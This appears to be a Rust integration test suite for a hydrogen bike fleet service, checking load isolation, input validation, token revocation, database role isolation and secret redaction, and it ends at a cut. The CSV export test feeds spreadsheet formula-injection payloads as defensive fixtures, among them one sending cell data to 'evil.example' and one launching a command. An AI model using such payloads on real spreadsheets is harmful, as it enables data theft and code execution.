//! Operators against each other and against the rest of the service: no request can stall
//! ingest, alerts or webhooks, blind another reader, or reach what it may not. Each test drives
//! the real service, database and broker.

use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::support::*;

/// A webhook receiver that keeps every body it gets, with when it came.
#[derive(Clone, Default)]
struct Inbox(Arc<Mutex<Vec<(Instant, Value)>>>);

async fn receiver() -> (String, Inbox) {
    let inbox = Inbox::default();
    let kept = inbox.clone();
    let app = axum::Router::new().route(
        "/hook",
        axum::routing::post(move |body: axum::body::Bytes| {
            let kept = kept.clone();
            async move {
                let v: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
                kept.0.lock().unwrap().push((Instant::now(), v));
                axum::http::StatusCode::NO_CONTENT
            }
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/hook", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (url, inbox)
}

fn webhook(url: &str) -> hyfleet::notify::WebhookConfig {
    hyfleet::notify::WebhookConfig {
        name: "ops".into(),
        url: url.into(),
        secret: Some("whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw".into()),
        events: hyfleet::domain::AlertEventType::ALL.to_vec(),
        format: hyfleet::notify::Format::Generic,
        rate_per_minute: None,
    }
}

/// Readings that open `tank_fault` (pressure far out of band, a fault code) for `vehicle`.
async fn publish_tank_fault(fw: &mut Publisher, root: &str, vehicle: &str) {
    let now = chrono::Utc::now();
    for n in 0..40i64 {
        let ts = now - chrono::Duration::seconds(40 - n);
        fw.publish(
            &format!("{root}/bike/{vehicle}/telemetry"),
            json!({"ts": ts.timestamp_millis(), "seq": n, "lat": 37.145, "lon": 111.781,
                   "speed_kmh": 0.0, "h2_g": 30.0, "h2_pressure_bar": 900.0,
                   "faults": ["TANK_OVERPRESSURE"], "locked": true})
            .to_string(),
        )
        .await;
    }
    fw.flush().await;
}

async fn problem(r: reqwest::Response) -> (StatusCode, Option<String>, Value) {
    let status = r.status();
    let ct = r
        .headers()
        .get("content-type")
        .map(|v| v.to_str().unwrap().to_owned());
    (status, ct, r.json().await.unwrap_or(Value::Null))
}

/// Status, time taken, Retry-After and body of one API answer.
type Answer = (StatusCode, Duration, Option<String>, Value);

/// The field case of the API pool: operators' requests that run long (here: held by a lock,
/// so that they run long however fast the machine is) fill every API connection, and keep
/// coming. Ingest keeps committing, an alert's webhook is delivered as promptly as when idle,
/// and each of the stuck requests is answered (503 with Retry-After) instead of hanging.
#[tokio::test]
async fn slow_api_queries_stall_neither_ingest_nor_webhooks() {
    let (url, inbox) = receiver().await;
    let db = TestDb::new().await;
    let mut c = config(&db, &BROKER);
    c.database.pool_size = 2;
    c.database.pool_wait_ms = 500;
    c.database.statement_timeout_ms = 2000;
    c.notify.allow_private_networks = true;
    c.webhooks.push(webhook(&url));
    let root = c.mqtt.topic_root.clone();
    let svc = InProcess::start(c).await;

    // Every API request that lists tokens now waits on this lock; nothing else needs it.
    let mut locker = db.client().await;
    let tx = locker.transaction().await.unwrap();
    tx.batch_execute("LOCK TABLE api_tokens IN ACCESS EXCLUSIVE MODE")
        .await
        .unwrap();

    let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let answers: Arc<Mutex<Vec<Answer>>> = Arc::default();
    let mut load = Vec::new();
    for _ in 0..8 {
        let (stop, answers, u) = (stop.clone(), answers.clone(), svc.url("/api/v1/tokens"));
        load.push(tokio::spawn(async move {
            let http = reqwest::Client::new();
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let t = Instant::now();
                let r = tokio::time::timeout(
                    Duration::from_secs(30),
                    http.get(&u).bearer_auth(TOKEN).send(),
                )
                .await
                .expect("an API request is answered within 30 s, not left hanging")
                .unwrap();
                let retry = r
                    .headers()
                    .get("retry-after")
                    .map(|v| v.to_str().unwrap().to_owned());
                let (status, _, body) = problem(r).await;
                answers
                    .lock()
                    .unwrap()
                    .push((status, t.elapsed(), retry, body));
            }
        }));
    }
    // Let the load take every API connection first.
    tokio::time::sleep(Duration::from_secs(1)).await;

    let mut fw = Publisher::connect(&BROKER).await;
    let published = Instant::now();
    publish_tank_fault(&mut fw, &root, "XY-B0001").await;
    let client = db.client().await;
    eventually(20, "ingest commits while the API is saturated", || async {
        (count(&client, "SELECT count(*) FROM telemetry").await == 40).then_some(())
    })
    .await;
    let delivered = eventually(
        20,
        "the alert's webhook while the API is saturated",
        || async {
            inbox
                .0
                .lock()
                .unwrap()
                .iter()
                .find(|(_, e)| e["type"] == "hyfleet.alert.opened")
                .map(|(at, _)| *at)
        },
    )
    .await;
    let latency = delivered - published;
    // Keep the API saturated a while longer, so every loop has been answered several times.
    tokio::time::sleep(Duration::from_secs(3)).await;
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    for l in load {
        l.await.unwrap();
    }
    let answers = answers.lock().unwrap().clone();
    assert!(answers.len() >= 8, "{} answers", answers.len());
    for (status, took, retry, body) in &answers {
        assert_eq!(*status, StatusCode::SERVICE_UNAVAILABLE, "{body}");
        assert_eq!(body["status"], 503, "{body}");
        assert!(retry.is_some(), "a 503 says when to retry: {body}");
        assert!(*took < Duration::from_secs(15), "answered after {took:?}");
    }
    let details: Vec<&str> = answers
        .iter()
        .filter_map(|a| a.3["detail"].as_str())
        .collect();
    assert!(
        details.iter().any(|d| d.contains("statement_timeout_ms")),
        "a statement past the timeout is cancelled: {details:?}"
    );
    assert!(
        details.iter().any(|d| d.contains("pool_size")),
        "a request that finds every connection busy is refused: {details:?}"
    );

    // The lock gone, the same request succeeds.
    drop(tx);
    let r = get(&svc.url("/api/v1/tokens")).await.unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    println!("alert webhook delivered {latency:?} after publishing, with the API pool saturated");
    svc.stop().await;
}

/// A range or a bucket count past the limits is a 400 that names the limit, before any query:
/// `every=1s` over 30 days no longer groups a vehicle's whole history.
#[tokio::test]
async fn long_ranges_and_too_many_buckets_are_refused_naming_the_limit() {
    let db = TestDb::new().await;
    let svc = InProcess::start(config(&db, &BROKER)).await;
    db.client()
        .await
        .execute(
            "INSERT INTO vehicles (code, kind, tank_g, speed_cap_kmh, km_per_g) \
             VALUES ('XY-B0001', 'bike', 50, 23, 1.2)",
            &[],
        )
        .await
        .unwrap();
    let to = chrono::Utc::now();
    let from = |days: i64| (to - chrono::Duration::days(days)).to_rfc3339();
    let to = to.to_rfc3339();
    let enc = |s: &str| s.replace('+', "%2B");
    let v = "/api/v1/vehicles/XY-B0001";
    for (path, limit) in [
        (
            format!(
                "{v}/telemetry?from={}&to={}&every=1s",
                enc(&from(30)),
                enc(&to)
            ),
            "api.max_buckets",
        ),
        (
            format!("{v}/telemetry?from={}&to={}", enc(&from(30)), enc(&to)),
            "api.max_raw_range_hours",
        ),
        (
            format!(
                "{v}/telemetry?from={}&to={}&every=30s",
                enc(&from(3)),
                enc(&to)
            ),
            "api.max_raw_range_hours",
        ),
        (
            format!("{v}/track?from={}&to={}", enc(&from(30)), enc(&to)),
            "api.max_raw_range_hours",
        ),
    ] {
        let (status, ct, body) = problem(get(&svc.url(&path)).await.unwrap()).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{path}: {body}");
        assert_eq!(ct.as_deref(), Some("application/problem+json"), "{path}");
        let detail = body["detail"].as_str().unwrap_or_default();
        assert!(detail.contains(limit), "{path}: {detail}");
    }
    // Within the limits: days of minute or daily buckets, a day of raw readings.
    for path in [
        format!(
            "{v}/telemetry?from={}&to={}&every=1d",
            enc(&from(30)),
            enc(&to)
        ),
        format!(
            "{v}/telemetry?from={}&to={}&every=1m",
            enc(&from(6)),
            enc(&to)
        ),
        format!("{v}/telemetry?from={}&to={}", enc(&from(1)), enc(&to)),
        format!("{v}/track?from={}&to={}", enc(&from(1)), enc(&to)),
    ] {
        let r = get(&svc.url(&path)).await.unwrap();
        assert_eq!(r.status(), StatusCode::OK, "{path}");
    }
    svc.stop().await;
}

/// One rule for every route of the route table: a NUL (or another control character) in a
/// path parameter or in any query parameter is a 400 problem, never a 500 from PostgreSQL.
#[tokio::test]
async fn a_control_character_in_any_parameter_of_any_route_is_a_400_problem() {
    let db = TestDb::new().await;
    let svc = InProcess::start(config(&db, &BROKER)).await;
    db.client()
        .await
        .execute(
            "INSERT INTO vehicles (code, kind, tank_g, speed_cap_kmh, km_per_g) \
             VALUES ('XY-B0001', 'bike', 50, 23, 1.2)",
            &[],
        )
        .await
        .unwrap();
    let http = reqwest::Client::new();
    let mut tried = 0;
    for op in hyfleet::api::routes::OPS {
        let method =
            reqwest::Method::from_bytes(op.method.as_str().to_uppercase().as_bytes()).unwrap();
        let mut urls = Vec::new();
        if op.path.contains("{id}") {
            for bad in ["XY%00B0001", "1%00", "%0a"] {
                urls.push(op.path.replace("{id}", bad));
            }
        }
        let base = op.path.replace("{id}", "XY-B0001");
        for p in op.params.iter().filter(|p| !p.in_path) {
            urls.push(format!("{base}?{}=a%00b", p.name));
            urls.push(format!("{base}?{}=%00", p.name));
        }
        for path in urls {
            let r = http
                .request(method.clone(), svc.url(&path))
                .bearer_auth(TOKEN)
                .header("content-type", "application/json")
                .body("{}")
                .send()
                .await
                .unwrap();
            let (status, ct, body) = problem(r).await;
            let what = format!("{} {path}", op.method.as_str());
            assert_eq!(status, StatusCode::BAD_REQUEST, "{what}: {body}");
            assert_eq!(ct.as_deref(), Some("application/problem+json"), "{what}");
            tried += 1;
        }
    }
    assert!(tried >= 60, "only {tried} requests");
    // The public feeds and unknown paths follow the same rule.
    for path in [
        "/gbfs/gbfs.json?x=%00",
        "/gbfs/vehicle_status.json%00",
        "/nope%00",
    ] {
        let r = reqwest::get(svc.url(path)).await.unwrap();
        assert_eq!(r.status(), StatusCode::BAD_REQUEST, "{path}");
    }
    // Percent-encoded text that is not a control character still works.
    let r = get(&svc.url("/api/v1/alerts?rule=low%5Fhydrogen&vehicle=XY%2DB0001"))
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    svc.stop().await;
}

/// Fault codes come from firmware: in a CSV export, one that a spreadsheet would run as a
/// formula is made text.
#[tokio::test]
async fn csv_export_defuses_cells_a_spreadsheet_would_run() {
    let db = TestDb::new().await;
    let c = config(&db, &BROKER);
    let root = c.mqtt.topic_root.clone();
    let svc = InProcess::start(c).await;
    let mut fw = Publisher::connect(&BROKER).await;
    let now = chrono::Utc::now();
    let faults = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"E12\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1",
        "E12",
    ];
    for (n, f) in faults.iter().enumerate() {
        fw.publish(
            &format!("{root}/bike/XY-B0001/telemetry"),
            json!({"ts": (now - chrono::Duration::seconds(60 - n as i64)).timestamp_millis(),
                   "seq": n, "lat": 37.145, "lon": 111.781, "speed_kmh": 0.0, "h2_g": 30.0,
                   "faults": [f]})
            .to_string(),
        )
        .await;
    }
    fw.flush().await;
    let client = db.client().await;
    eventually(20, "readings stored", || async {
        (count(&client, "SELECT count(*) FROM telemetry").await == faults.len() as i64)
            .then_some(())
    })
    .await;
    let csv = get(&svc.url("/api/v1/vehicles/XY-B0001/telemetry?format=csv"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let cells: Vec<&str> = csv
        .lines()
        .skip(1)
        .map(|l| {
            let start = l.find(",\"").expect("faults are the last, quoted cell") + 2;
            &l[start..l.len() - 1]
        })
        .collect();
    assert_eq!(cells.len(), faults.len(), "{csv}");
    for (cell, fault) in cells.iter().zip(faults) {
        let fault = fault.replace('"', "\"\"");
        if fault.starts_with(['=', '+', '-', '@', '\t']) {
            assert_eq!(*cell, format!("'{fault}"), "{csv}");
        } else {
            assert_eq!(*cell, fault, "{csv}");
        }
    }
    svc.stop().await;
}

/// What the API publishes on a `cmd` topic is valid against `schemas/command.schema.json`, for
/// every command type, and the schema names the speed cap's argument as the API does.
#[tokio::test]
async fn published_commands_validate_against_the_command_schema() {
    let db = TestDb::new().await;
    let c = config(&db, &BROKER);
    let root = c.mqtt.topic_root.clone();
    let svc = InProcess::start(c).await;
    db.client()
        .await
        .execute(
            "INSERT INTO vehicles (code, kind, tank_g, speed_cap_kmh, km_per_g) \
             VALUES ('XY-B0001', 'bike', 50, 23, 1.2)",
            &[],
        )
        .await
        .unwrap();
    let ep = hyfleet::config::parse_mqtt_url(&BROKER).unwrap();
    let (client, mut events) = rumqttc::AsyncClient::new(
        rumqttc::MqttOptions::new(unique("bike"), ep.host, ep.port),
        100,
    );
    client
        .subscribe(
            format!("{root}/bike/XY-B0001/cmd"),
            rumqttc::QoS::AtLeastOnce,
        )
        .await
        .unwrap();
    let (tx, mut rx) = tokio::sync::mpsc::channel(10);
    tokio::spawn(async move {
        loop {
            match events.poll().await {
                Ok(rumqttc::Event::Incoming(rumqttc::Packet::SubAck(_))) => {
                    let _ = tx.send(None).await;
                }
                Ok(rumqttc::Event::Incoming(rumqttc::Packet::Publish(p))) => {
                    let _ = tx.send(Some(p.payload.to_vec())).await;
                }
                Ok(_) => {}
                Err(_) => return,
            }
        }
    });
    assert!(rx.recv().await.unwrap().is_none(), "subscribed");
    let mut published = Vec::new();
    for body in [
        json!({"type": "lock"}),
        json!({"type": "unlock"}),
        json!({"type": "locate"}),
        json!({"type": "set_speed_cap", "args": {"speed_cap_kmh": 15}}),
    ] {
        let r = reqwest::Client::new()
            .post(svc.url("/api/v1/vehicles/XY-B0001/commands"))
            .bearer_auth(TOKEN)
            .json(&body)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::ACCEPTED, "{body}");
        let payload = tokio::time::timeout(Duration::from_secs(15), rx.recv())
            .await
            .expect("command within 15 s")
            .unwrap()
            .unwrap();
        published.push(serde_json::from_slice::<Value>(&payload).unwrap());
    }
    // The name the schema used to give: the API refuses it, and so must the schema.
    let r = reqwest::Client::new()
        .post(svc.url("/api/v1/vehicles/XY-B0001/commands"))
        .bearer_auth(TOKEN)
        .json(&json!({"type": "set_speed_cap", "args": {"speed_kmh": 15}}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    let mut wrong = published[3].clone();
    wrong["args"] = json!({"speed_kmh": 15});
    let mut lock_with_args = published[0].clone();
    lock_with_args["args"] = json!({"speed_cap_kmh": 15});

    let verdicts = validate_commands(&[
        published[0].clone(),
        published[1].clone(),
        published[2].clone(),
        published[3].clone(),
        wrong,
        lock_with_args,
    ]);
    assert_eq!(
        verdicts,
        [true, true, true, true, false, false],
        "{published:#?}"
    );
    svc.stop().await;
}

/// Each instance validated against the committed schema by Python's `jsonschema` (pinned in
/// tests/requirements.txt), with formats checked.
fn validate_commands(instances: &[Value]) -> Vec<bool> {
    let schema = concat!(env!("CARGO_MANIFEST_DIR"), "/schemas/command.schema.json");
    let script = r#"
import json, sys
import jsonschema
schema = json.load(open(sys.argv[1]))
jsonschema.Draft202012Validator.check_schema(schema)
v = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)
print(json.dumps([v.is_valid(i) for i in json.load(sys.stdin)]))
"#;
    let mut child = std::process::Command::new("python3")
        .args(["-c", script, schema])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("python3 with jsonschema (tests/requirements.txt)");
    use std::io::Write as _;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(serde_json::to_string(instances).unwrap().as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "schema check failed");
    serde_json::from_slice(&out.stdout).unwrap()
}

/// An SSE reader that only says whether its stream is still open.
async fn open_stream(svc_url: String, token: Option<&str>) -> reqwest::Response {
    let mut r = reqwest::Client::new().get(svc_url);
    if let Some(t) = token {
        r = r.bearer_auth(t);
    }
    let r = r.send().await.unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    r
}

/// Reads until the stream ends (true) or `within` passes (false).
async fn ends_within(r: &mut reqwest::Response, within: Duration) -> bool {
    tokio::time::timeout(within, async { while let Ok(Some(_)) = r.chunk().await {} })
        .await
        .is_ok()
}

async fn create_token(svc: &InProcess, name: &str) -> (i64, String) {
    let r = reqwest::Client::new()
        .post(svc.url("/api/v1/tokens"))
        .bearer_auth(TOKEN)
        .json(&json!({"name": name, "role": "viewer"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::CREATED);
    let v: Value = r.json().await.unwrap();
    (
        v["id"].as_i64().unwrap(),
        v["token"].as_str().unwrap().to_owned(),
    )
}

/// Deleting a token ends the event streams opened with it: at once on the instance that
/// deleted it, within the recheck period on another; streams of other tokens go on.
#[tokio::test]
async fn deleting_a_token_ends_its_open_event_streams() {
    let db = TestDb::new().await;
    let c = config(&db, &BROKER);
    let mut c2 = c.clone();
    c2.mqtt.client_id = unique("hyfleet");
    let svc = InProcess::start(c).await;
    let other = InProcess::start(c2).await;
    let (gone_id, gone) = create_token(&svc, "leaver").await;
    let (_, kept) = create_token(&svc, "stayer").await;

    let mut here = open_stream(svc.url("/api/v1/stream"), Some(&gone)).await;
    let mut there = open_stream(other.url("/api/v1/stream"), Some(&gone)).await;
    let mut query = open_stream(
        svc.url(&format!("/api/v1/stream?access_token={gone}")),
        None,
    )
    .await;
    let mut unaffected = open_stream(svc.url("/api/v1/stream"), Some(&kept)).await;
    assert!(!ends_within(&mut here, Duration::from_millis(300)).await);

    let r = reqwest::Client::new()
        .delete(svc.url(&format!("/api/v1/tokens/{gone_id}")))
        .bearer_auth(TOKEN)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::NO_CONTENT);
    assert!(
        ends_within(&mut here, Duration::from_secs(5)).await,
        "the stream of a deleted token ends at once"
    );
    assert!(
        ends_within(&mut query, Duration::from_secs(5)).await,
        "so does one authenticated by ?access_token="
    );
    assert!(
        ends_within(&mut there, Duration::from_secs(30)).await,
        "and one on another instance, within its recheck"
    );
    assert!(
        !ends_within(&mut unaffected, Duration::from_secs(1)).await,
        "another token's stream goes on"
    );
    let r = reqwest::Client::new()
        .get(svc.url("/api/v1/stream"))
        .bearer_auth(&gone)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    drop((here, there, query, unaffected));
    other.stop().await;
    svc.stop().await;
}

/// A dashboard query with Grafana's macros expanded as its PostgreSQL data source does, over
/// the last day.
fn expand_grafana_macros(sql: &str) -> String {
    let mut out = sql
        .replace("$__timeFrom()", "(now() - interval '1 day')")
        .replace("$__timeTo()", "now()")
        .replace("$__interval", "'1m'")
        .replace("$vehicle", "XY-B0001");
    for (name, expand) in [
        (
            "$__timeGroupAlias(",
            "date_bin(interval '1 minute', {col}, timestamptz '2000-01-01') AS time",
        ),
        (
            "$__timeFilter(",
            "{col} BETWEEN now() - interval '1 day' AND now()",
        ),
    ] {
        while let Some(at) = out.find(name) {
            let args_at = at + name.len();
            let close = args_at + out[args_at..].find(')').unwrap();
            let col = out[args_at..close]
                .split(',')
                .next()
                .unwrap()
                .trim()
                .to_owned();
            out.replace_range(at..=close, &expand.replace("{col}", &col));
        }
    }
    out
}

/// The role that `deploy/postgres/init-grafana.sh` makes runs every query of the shipped
/// dashboard, and reads no webhook secret, no robot URL and no token digest, through the views
/// or around them.
#[tokio::test]
async fn the_grafana_role_runs_the_dashboards_and_reads_no_secret() {
    let db = TestDb::new().await;
    let admin = db.client().await;
    admin
        .batch_execute(
            "INSERT INTO webhooks (name, url, secret, events, format, source) VALUES
               ('robot', 'https://oapi.dingtalk.com/robot/send?access_token=ROBOTKEY0123',
                'SECRET0123', '{alert.opened}', 'dingtalk', 'api');
             INSERT INTO api_tokens (name, role, token_sha256, created_by)
               VALUES ('t', 'viewer', sha256('a-token-of-someone'), 'test');
             INSERT INTO vehicles (code, kind, tank_g, speed_cap_kmh, km_per_g, h2_g)
               VALUES ('XY-B0001', 'bike', 50, 23, 1.2, 30);",
        )
        .await
        .unwrap();
    let digest_hex: String = admin
        .query_one("SELECT encode(token_sha256, 'hex') FROM api_tokens", &[])
        .await
        .unwrap()
        .get(0);
    // Roles are shared by every database of the server: one of this test's own.
    let role = unique("grafana");
    let out = std::process::Command::new("sh")
        .arg(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/deploy/postgres/init-grafana.sh"
        ))
        .env("POSTGRES_USER", "postgres")
        .env("POSTGRES_DB", &db.name)
        .env("GRAFANA_DB_PASSWORD", "grafana-test-password")
        .env("GRAFANA_DB_USER", &role)
        .env("PGHOST", pg_addr().ip().to_string())
        .env("PGPORT", pg_addr().port().to_string())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let result = async {
        let grafana = hyfleet::store::connect(&format!(
            "postgres://{role}:grafana-test-password@{}/{}",
            pg_addr(),
            db.name
        ))
        .await
        .unwrap();
        let dashboard: Value =
            serde_json::from_str(include_str!("../../deploy/grafana/dashboards/hyfleet.json"))
                .unwrap();
        let mut queries = Vec::new();
        collect_raw_sql(&dashboard, &mut queries);
        assert!(queries.len() >= 10, "{queries:?}");
        for q in &queries {
            let sql = expand_grafana_macros(q);
            if let Err(e) = grafana.simple_query(&sql).await {
                panic!("dashboard query fails as the Grafana role: {e}\n{sql}");
            }
        }
        for sql in [
            "SELECT secret FROM webhooks",
            "SELECT url FROM webhooks",
            "SELECT secret FROM public.webhooks",
            "SELECT url FROM public.webhooks",
            "SELECT token_sha256 FROM api_tokens",
            "SELECT token_sha256 FROM public.api_tokens",
            "SELECT * FROM public.vehicles",
            "SELECT * FROM public.telemetry",
            "SELECT * FROM public.telemetry_between(1, now() - interval '1 day', now())",
            "DELETE FROM zones",
            "UPDATE vehicles SET h2_g = 0",
        ] {
            assert!(
                grafana.simple_query(sql).await.is_err(),
                "the Grafana role may run: {sql}"
            );
        }
        // Everything it can read, row by row: no secret in it.
        let relations: Vec<String> = grafana
            .query(
                "SELECT format('%I.%I', table_schema, table_name)
                 FROM information_schema.tables WHERE table_schema NOT IN
                   ('pg_catalog', 'information_schema')
                   AND has_table_privilege(format('%I.%I', table_schema, table_name), 'SELECT')",
                &[],
            )
            .await
            .unwrap()
            .iter()
            .map(|r| r.get(0))
            .collect();
        assert!(
            relations.iter().any(|r| r == "reporting.webhooks"),
            "{relations:?}"
        );
        assert!(
            relations.iter().all(|r| r.starts_with("reporting.")),
            "{relations:?}"
        );
        for rel in &relations {
            let rows = grafana
                .query(&format!("SELECT row_to_json(t)::text FROM {rel} t"), &[])
                .await
                .unwrap();
            for r in rows {
                let text: String = r.get(0);
                for secret in ["SECRET0123", "ROBOTKEY0123", digest_hex.as_str()] {
                    assert!(!text.contains(secret), "{rel} shows {secret}: {text}");
                }
            }
        }
    };
    // The role goes whatever happened, so that the server keeps no stranger.
    let outcome = futures_util::FutureExt::catch_unwind(std::panic::AssertUnwindSafe(result)).await;
    admin
        .batch_execute(&format!("DROP OWNED BY \"{role}\"; DROP ROLE \"{role}\""))
        .await
        .unwrap();
    if let Err(p) = outcome {
        std::panic::resume_unwind(p);
    }
}

fn collect_raw_sql(v: &Value, out: &mut Vec<String>) {
    match v {
        Value::Object(m) => {
            if let Some(Value::String(sql)) = m.get("rawSql") {
                out.push(sql.clone());
            }
            m.values().for_each(|v| collect_raw_sql(v, out));
        }
        Value::Array(a) => a.iter().for_each(|v| collect_raw_sql(v, out)),
        _ => {}
    }
}

/// However `DATABASE_URL` is wrong (unreachable, unparseable, password in the query), no
/// command prints its password.
#[tokio::test]
async fn database_url_passwords_never_reach_the_output() {
    const PW: &str = "Hunter2Secret";
    let urls = [
        format!("postgres://fleet:{PW}@127.0.0.1:1/hyfleet"),
        format!("postgres://fleet:{PW}@127.0.0.1:notaport/hyfleet"),
        format!("postgres://fleet@127.0.0.1:1/hyfleet?password={PW}"),
        format!("postgres://fleet:{PW}@127.0.0.1:5432/hyfleet?sslmode=bogus"),
    ];
    let zones = concat!(env!("CARGO_MANIFEST_DIR"), "/data/xiaoyi/zones.geojson");
    let mut runs = Vec::new();
    for url in &urls {
        for args in [
            vec!["migrate"],
            vec!["serve"],
            vec!["zones", "import", zones],
            vec!["demo"],
        ] {
            let child = std::process::Command::new(env!("CARGO_BIN_EXE_hyfleet"))
                .args(&args)
                .env("DATABASE_URL", url)
                .env("MQTT_URL", "mqtt://127.0.0.1:1")
                .env("HYFLEET_HTTP_ADDR", "127.0.0.1:0")
                .env("RUST_LOG", "debug")
                .env_remove("HYFLEET_CONFIG")
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap();
            let pid = child.id().to_string();
            let waiter = tokio::task::spawn_blocking(move || child.wait_with_output().unwrap());
            runs.push((format!("{args:?} with {url}"), pid, waiter));
        }
    }
    // `demo` reports its service's end when stopped: stop what still runs as Ctrl-C would.
    tokio::time::sleep(Duration::from_secs(5)).await;
    for (_, pid, waiter) in &runs {
        if !waiter.is_finished() {
            let _ = std::process::Command::new("kill")
                .args(["-INT", pid])
                .status();
        }
    }
    for (what, _, waiter) in runs {
        let out = tokio::time::timeout(Duration::from_secs(60), waiter)
            .await
            .expect("the command ends")
            .unwrap();
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(!out.status.success(), "{what}: {text}");
        assert!(!text.contains(PW), "{what} prints the password:\n{text}");
    }
}

/// A NUL inside a JSON string (`\u0000`), which PostgreSQL stores neither as text nor in jsonb,
/// is a 400 problem on every route that takes a body, never a 500.
#[tokio::test]
async fn a_nul_in_a_json_body_is_a_400_problem() {
    let db = TestDb::new().await;
    let svc = InProcess::start(config(&db, &BROKER)).await;
    let client = db.client().await;
    let vehicle: i32 = client
        .query_one(
            "INSERT INTO vehicles (code, kind, tank_g, speed_cap_kmh, km_per_g) \
             VALUES ('XY-B0001', 'bike', 50, 23, 1.2) RETURNING id",
            &[],
        )
        .await
        .unwrap()
        .get(0);
    let alert: i64 = client
        .query_one(
            "INSERT INTO alerts (vehicle_id, rule, state, severity, opened_at) \
             VALUES ($1, 'low_hydrogen', 'open', 'warning', now()) RETURNING id",
            &[&vehicle],
        )
        .await
        .unwrap()
        .get(0);
    let zone = |name: &str, extra: &str| {
        json!({"type": "Feature",
               "properties": {"id": "P99", "kind": "parking", "name": name, "extra": extra},
               "geometry": {"type": "Polygon", "coordinates": [[
                   [111.78, 37.14], [111.79, 37.14], [111.79, 37.15], [111.78, 37.14]]]}})
    };
    let http = reqwest::Client::new();
    for (method, path, body) in [
        (
            reqwest::Method::POST,
            "/api/v1/zones".to_owned(),
            zone("a\0b", ""),
        ),
        (
            reqwest::Method::POST,
            "/api/v1/zones".to_owned(),
            zone("P99", "\0"),
        ),
        (
            reqwest::Method::PUT,
            "/api/v1/zones/P99".to_owned(),
            zone("a\0b", ""),
        ),
        (
            reqwest::Method::POST,
            format!("/api/v1/alerts/{alert}/ack"),
            json!({"note": "seen\0"}),
        ),
        (
            reqwest::Method::POST,
            format!("/api/v1/alerts/{alert}/resolve"),
            json!({"note": "\0"}),
        ),
        (
            reqwest::Method::POST,
            "/api/v1/tokens".to_owned(),
            json!({"name": "a\0", "role": "viewer"}),
        ),
        (
            reqwest::Method::POST,
            "/api/v1/vehicles/XY-B0001/commands".to_owned(),
            json!({"type": "lock", "args": {"\0": 1}}),
        ),
    ] {
        let r = http
            .request(method.clone(), svc.url(&path))
            .bearer_auth(TOKEN)
            .json(&body)
            .send()
            .await
            .unwrap();
        let (status, ct, got) = problem(r).await;
        assert_eq!(
            status,
            StatusCode::BAD_REQUEST,
            "{method} {path} {body}: {got}"
        );
        assert_eq!(ct.as_deref(), Some("application/problem+json"), "{path}");
    }
    // Nothing half-done: the zone was not stored, the alert is still open.
    assert_eq!(
        count(&client, "SELECT count(*) FROM zones WHERE id = 'P99'").await,
        0
    );
    assert_eq!(
        count(&client, "SELECT count(*) FROM alerts WHERE state = 'open'").await,
        1
    );
    svc.stop().await;
}

/// Event streams are capped per token and in all: one reader cannot take every stream of the
/// instance, and a place comes back when a stream ends.
#[tokio::test]
async fn event_streams_are_capped_per_token_and_in_all() {
    let db = TestDb::new().await;
    let mut c = config(&db, &BROKER);
    c.api.max_streams = 3;
    c.api.max_streams_per_token = 2;
    let svc = InProcess::start(c).await;
    let (_, one) = create_token(&svc, "one").await;
    let (_, two) = create_token(&svc, "two").await;
    let (_, three) = create_token(&svc, "three").await;
    let url = svc.url("/api/v1/stream");
    let try_open = |tok: String| {
        let url = url.clone();
        async move {
            reqwest::Client::new()
                .get(url)
                .bearer_auth(tok)
                .send()
                .await
                .unwrap()
        }
    };
    let first = open_stream(url.clone(), Some(&one)).await;
    let _second = open_stream(url.clone(), Some(&one)).await;
    let r = try_open(one.clone()).await;
    assert!(r.headers().contains_key("retry-after"));
    let (status, _, body) = problem(r).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{body}");
    assert!(
        body["detail"]
            .as_str()
            .unwrap()
            .contains("api.max_streams_per_token")
    );

    let _third = open_stream(url.clone(), Some(&two)).await;
    let (status, _, body) = problem(try_open(three.clone()).await).await;
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE, "{body}");
    assert!(body["detail"].as_str().unwrap().contains("api.max_streams"));

    // A reader that goes away gives its place back.
    drop(first);
    let back = eventually(20, "a stream's place back", || {
        let open = try_open(three.clone());
        async move {
            let r = open.await;
            (r.status() == StatusCode::OK).then_some(r)
        }
    })
    .await;
    drop(back);
    svc.stop().await;
}

/// Anonymous readers of the public GBFS feeds, however many and however slow their queries
